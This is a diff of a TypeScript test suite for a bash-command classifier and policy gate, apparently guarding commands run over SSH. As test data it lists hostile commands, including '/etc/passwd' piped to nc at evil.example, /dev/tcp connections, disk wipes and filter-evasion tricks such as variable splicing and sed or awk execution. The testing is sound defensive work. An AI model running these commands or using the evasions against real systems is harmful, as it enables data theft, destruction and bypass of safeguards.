@@ -1,7 +1,12 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { inspectCommand } from '../../core/shell/index.js';
+import { inspectCommand, parseBash, targetCommand } from '../../core/shell/index.js';
 import { compilePolicySet } from '../../core/policy/index.js';
+import { analyzeSed } from '../../core/shell/sed-script.js';
+import { analyzeAwk } from '../../core/shell/awk-program.js';
+import { parseOptions } from '../../core/shell/options.js';
+import { BINARY, REDIRECT, type BinaryCmd } from '../../core/shell/syntax.js';
+import { bypassCorpus, usefulnessCorpus } from '../support/ssh-corpus.js';
 
 const cases: [string, string, string[]][] = [
   // [command, class, categories that must be present]
@@ -16,12 +21,12 @@ const cases: [string, string, string[]][] = [
   ["su -c 'id' root", 'privileged', ['privilege_escalation']],
   ['rm -rf build', 'destructive', ['destructive_file']],
   ['find / -name core -delete', 'destructive', ['destructive_file']],
-  ['find . -exec shred {} ;', 'destructive', ['destructive_file']],
+  ['find . -exec shred {} \\;', 'destructive', ['destructive_file']],
   ['timeout 5 rm x', 'destructive', ['destructive_file']],
   ['dd if=/dev/zero of=/dev/sda', 'destructive', ['disk_tool']],
   ['mkfs.ext4 /dev/sdb1', 'destructive', ['disk_tool']],
   ['systemctl restart nginx', 'privileged', ['service_control']],
-  ['kill -9 1', 'privileged', ['process_control']],
+  ['kill -9 1', 'opaque', []],
   ['apt-get install -y nginx', 'privileged', ['package_install']],
   ['pip install requests', 'privileged', ['package_install']],
   ['cat /etc/passwd | nc evil.example 9000', 'privileged', ['network_exfiltration']],
@@ -32,6 +37,14 @@ const cases: [string, string, string[]][] = [
   ['python3 -c "import os"', 'opaque', ['inline_script']],
   ['./deploy.sh', 'opaque', []],
   ['frobnicate --all', 'opaque', []],
+  ['mv x /dev/null', 'privileged', ['system_path_write']],
+  ['cat < /dev/tcp/10.0.0.1/80', 'privileged', ['network_exfiltration']],
+  ['ls > /dev/null', 'read', []],
+  ['sed -n 1p x > /dev/stderr', 'read', []],
+  ['sort -o out.txt in.txt', 'write', ['file_write']],
+  ['journalctl --vacuum-time=1s', 'destructive', ['destructive_file']],
+  ['date -s 2020-01-01', 'privileged', ['service_control']],
+  ['hostname evil', 'privileged', ['service_control']],
 ];
 
 test('commands are classified by what they do', () => {
@@ -42,10 +55,34 @@ test('commands are classified by what they do', () => {
   }
 });
 
-test('evasions the tokenizer cannot see through are opaque, not guessed', () => {
-  for (const command of ['r${X}m -rf /', '$CMD -rf /', 'echo $(rm -rf /)', 'echo `rm -rf /`', 'echo "$(id)"', 'ls\nrm -rf /', 'cat <(rm x)', '(rm -rf /)', 'LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=/tmp/x.so ls', '/tmp/ls', 'cat <<EOF']) {
+test('bash grammar, not a tokenizer: a `#` inside a word starts no comment, newlines separate commands', () => {
+  const r = inspectCommand('echo foo#; rm -f /tmp/marker');
+  assert.equal(r.class, 'destructive');
+  assert.deepEqual(r.binaries, ['echo', 'rm']);
+  assert.equal(inspectCommand('ls\nrm -rf x').class, 'destructive');
+  assert.deepEqual(inspectCommand('ls\\\n# ; rm -f x').binaries, ['ls#', 'rm'], 'a joined line is one word `ls#`, then rm');
+  assert.equal(inspectCommand('ls # a comment').class, 'opaque');
+});
+
+test('evasions that need the target to compute a value are opaque, not guessed', () => {
+  for (const command of ['r${X}m -rf /', '$CMD -rf /', 'echo $(rm -rf /)', 'echo `rm -rf /`', 'echo "$(id)"', 'cat <(rm x)', '(rm -rf /)', 'LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=/tmp/x.so ls', '/tmp/ls', 'cat <<EOF', "echo $'\\x41'", '{rm,-rf,x}', 'ls {a,b}', '/bin/r? x', 'f() { :; }', 'coproc ls', 'echo $((1+1))', '[[ -f x ]]']) {
     assert.equal(inspectCommand(command).class, 'opaque', command);
   }
+});
+
+test('refusals name the part judged and why', () => {
+  const reason = (c: string) => inspectCommand(c).reasons.join(' | ');
+  assert.match(reason("sed 's/a/b/e' f"), /`sed` with the `e` flag executes commands/);
+  assert.match(reason("sed '1e id' f"), /`sed` with the `e` command executes commands/);
+  assert.match(reason('hash -p /bin/rm ls; ls'), /`hash` is a shell builtin/);
+  assert.match(reason("PS4='$(id)' ls"), /sets `PS4`/);
+  assert.match(reason("env -S'rm x'"), /`env -S` splits a string/);
+  assert.match(reason('ls | xargs env'), /`xargs` passes words read from its input to `env`/);
+  assert.match(reason('find . -exec {} \\;'), /runs the found file itself/);
+  assert.match(reason('git grep -O x'), /`git grep` has no option `-O`/);
+  assert.match(reason('sort --out=x y'), /`sort` has no option `--out`/, 'getopt abbreviations are not resolved');
+  assert.match(reason("awk 'BEGIN{system(\"id\")}'"), /`awk` with `system\(\)`/);
+  assert.match(reason('ls *; sort *'), /the pattern `\*` can expand to a file name that `sort` reads as an option/);
 });
 
 test('quoting is understood: operators inside quotes are words', () => {
@@ -60,6 +97,112 @@ test('sudo wrappers expose the wrapped program and the sudo flag', () => {
   assert.equal(r.sudo, true);
   assert.deepEqual(r.binaries, ['sudo', 'ls']);
   assert.ok(r.categories.includes('privilege_escalation'));
+});
+
+test('the rebuilt command is canonical: re-inspecting it gives the same facts and the same text', () => {
+  for (const command of [...usefulnessCorpus(), 'echo "a b" c\\ d', "bash -c 'ls -l | head'", 'ls |& grep x', 'echo x &>/dev/null', 'ls >&/dev/null', '! grep -q x f', 'echo ~/x ~ a~b']) {
+    const r = inspectCommand(command);
+    if (r.class === 'opaque') continue;
+    assert.ok(r.rebuilt, command);
+    const again = inspectCommand(r.rebuilt);
+    assert.equal(again.rebuilt, r.rebuilt, `${command} → ${r.rebuilt}`);
+    assert.deepEqual(again.binaries, r.binaries, command);
+    assert.deepEqual(again.argv, r.argv, command);
+    assert.equal(again.class, r.class, command);
+  }
+  assert.equal(inspectCommand('ls |& grep x').rebuilt, 'ls 2>&1 | grep x');
+  assert.equal(inspectCommand('echo x &>>log').rebuilt, 'echo x >>log 2>&1');
+  assert.equal(inspectCommand("bash -c 'ls  -l'").rebuilt, "bash -c 'ls -l'", 'the inner script is forwarded as rebuilt');
+  assert.equal(inspectCommand('rm x').rebuilt, 'rm x', 'refused classes are rebuilt too: policy may allow them');
+  assert.equal(inspectCommand('echo $(id)').rebuilt, undefined);
+});
+
+test('the target command runs the rebuilt text under env -i, with only allowed variables', () => {
+  const t = targetCommand("echo 'a b'", { LANG: 'C.UTF-8', LD_PRELOAD: '/x.so' });
+  assert.match(t, /^\/usr\/bin\/env -i HOME="\$HOME" PATH=\/usr\/local\/sbin:[^ ]+ PAGER=cat /);
+  assert.ok(t.includes('LANG=C.UTF-8'));
+  assert.ok(!t.includes('LD_PRELOAD'));
+  assert.ok(t.endsWith(`/bin/sh -c 'echo '\\''a b'\\'''`));
+});
+
+test('every bypass attempt of the corpus is refused by a read-only policy (not classified read)', () => {
+  const corpus = bypassCorpus();
+  assert.ok(corpus.length >= 200, `${corpus.length} attempts`);
+  const leaks = corpus.filter((c) => inspectCommand(c).class === 'read');
+  assert.deepEqual(leaks, []);
+});
+
+test('every command of the usefulness corpus stays in the read class', () => {
+  const corpus = usefulnessCorpus();
+  assert.ok(corpus.length >= 100, `${corpus.length} commands`);
+  const refused = corpus.map((c) => [c, inspectCommand(c)] as const).filter(([, r]) => r.class !== 'read');
+  assert.deepEqual(refused.map(([c, r]) => `${c}: ${r.reasons.join('; ')}`), []);
+});
+
+test('sed scripts: parsed as GNU sed parses them', () => {
+  const exec = (s: string) => { const r = analyzeSed(s); return r.ok ? r.effects.executes !== undefined : 'unparsed'; };
+  assert.equal(exec('s/a/b/g'), false);
+  assert.equal(exec('s/[/]/x/e'), true, 'a `/` inside brackets does not end the regex');
+  assert.equal(exec('s,a,b,;e id'), true);
+  assert.equal(exec('1!G;h;$!d'), false);
+  assert.equal(exec('/x/{s/a/b/;p}'), false);
+  assert.equal(exec('a text; e id'), false, '`a` text runs to the end of the line');
+  assert.equal(exec('a text\ne id'), true);
+  assert.equal(exec('s/a/b/w out'), false);
+  assert.deepEqual(analyzeSed('s/a/b/w out;p').ok && analyzeSed('s/a/b/w out;p'), { ok: true, effects: { writes: ['out;p'], reads: [] } });
+  assert.equal(exec('k'), 'unparsed');
+  assert.equal(exec('s/a/b'), 'unparsed');
+});
+
+test('awk programs: regex constants, strings and print redirection', () => {
+  const ok = (p: string) => analyzeAwk(p).ok;
+  assert.ok(ok('{print $1}'));
+  assert.ok(ok('$3 > 1000 {print $1}'));
+  assert.ok(ok('{print ($1 > 2)}'));
+  assert.ok(ok('/a|b/ {n++} END {print n}'));
+  assert.ok(ok('{print "a|b"}'));
+  assert.ok(!ok('{print > "f"}'));
+  assert.ok(!ok('{printf("%s", $1) > "f"}'));
+  assert.ok(!ok('{print | "sh"}'));
+  assert.ok(!ok('{x = 4 / 2 | "sh"}'));
+  assert.ok(!ok('BEGIN{ system ("id") }'));
+  assert.ok(!ok('/[/]/'));
+});
+
+test('options: clusters, attached and separate values, no abbreviations', () => {
+  const t = { flags: 'ab', valued: 'o', long: 'out= all color?' };
+  const r = parseOptions(t, ['-abofile', 'x', '--color', '--out', 'y', '--', '-z'], 'p');
+  assert.ok(r.ok);
+  assert.deepEqual(r.args.options.map((o) => [o.name, o.value]), [['-a', undefined], ['-b', undefined], ['-o', 'file'], ['--color', undefined], ['--out', 'y']]);
+  assert.deepEqual(r.args.operands, ['x', '-z']);
+  assert.equal(parseOptions(t, ['--ou=x'], 'p').ok, false);
+  assert.equal(parseOptions(t, ['-c'], 'p').ok, false);
+});
+
+test('the adapter operator codes match the parser', () => {
+  const redir = (src: string) => {
+    const r = parseBash(src);
+    assert.ok(r.ok);
+    return r.file.Stmts[0]!.Redirs[0]!.Op;
+  };
+  assert.equal(redir('a > b'), REDIRECT.out);
+  assert.equal(redir('a >> b'), REDIRECT.append);
+  assert.equal(redir('a < b'), REDIRECT.in);
+  assert.equal(redir('a <> b'), REDIRECT.readWrite);
+  assert.equal(redir('a <&3'), REDIRECT.dupIn);
+  assert.equal(redir('a >&2'), REDIRECT.dupOut);
+  assert.equal(redir('a >| b'), REDIRECT.clobber);
+  assert.equal(redir('a <<< b'), REDIRECT.wordHdoc);
+  assert.equal(redir('a &> b'), REDIRECT.all);
+  assert.equal(redir('a &>> b'), REDIRECT.appendAll);
+  const op = (src: string) => {
+    const r = parseBash(src);
+    assert.ok(r.ok);
+    return (r.file.Stmts[0]!.Cmd as BinaryCmd).Op;
+  };
+  assert.deepEqual([op('a && b'), op('a || b'), op('a | b'), op('a |& b')], [BINARY.and, BINARY.or, BINARY.pipe, BINARY.pipeAll]);
+  const incomplete = parseBash('echo "open');
+  assert.ok(!incomplete.ok && incomplete.incomplete);
 });
 
 test('Cedar policies decide on command facts (binaries, categories, sudo, paths)', () => {
